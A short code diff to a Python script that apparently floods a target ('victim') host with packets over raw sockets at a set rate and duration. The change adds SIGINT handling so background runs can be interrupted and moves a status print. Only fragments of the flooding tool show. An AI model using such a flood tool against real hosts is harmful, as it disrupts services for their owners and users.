@@ -15,6 +15,7 @@ import ctypes
 import errno
 import os
 import random
+import signal
 import socket
 import struct
 import sys
@@ -258,6 +259,7 @@ def flood(aim: socket.socket, packets: Iterator[bytes], rate: int, seconds: floa
         place.header.vector_count = 1
     sent, began = 0, time.monotonic()
     with contextlib.suppress(KeyboardInterrupt):
+        print("floods", flush=True)  # from now on it may be interrupted
         while (passed := time.monotonic() - began) < seconds:
             if sent >= passed * rate:
                 time.sleep(BATCH / rate)
@@ -281,6 +283,8 @@ def main(arguments: Sequence[str]) -> int:
     parser.add_argument("--rate", type=int, default=20_000)
     parser.add_argument("--seconds", type=float, default=10.0)
     chosen = parser.parse_args(arguments)
+    # It is ended by SIGINT, which a shell has its background commands ignore, and what they start too.
+    signal.signal(signal.SIGINT, signal.default_int_handler)
     rng = random.Random(os.urandom(16))  # an index and a key that no earlier run has used
     aim = chosen.at or chosen.victim
     with contextlib.ExitStack() as stack:
@@ -291,7 +295,6 @@ def main(arguments: Sequence[str]) -> int:
             udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW))
         udp.connect((aim.host, aim.port))
         udp.setblocking(False)
-        print("floods", flush=True)
         print(flood(udp, packets, chosen.rate, chosen.seconds), flush=True)
     return 0
 
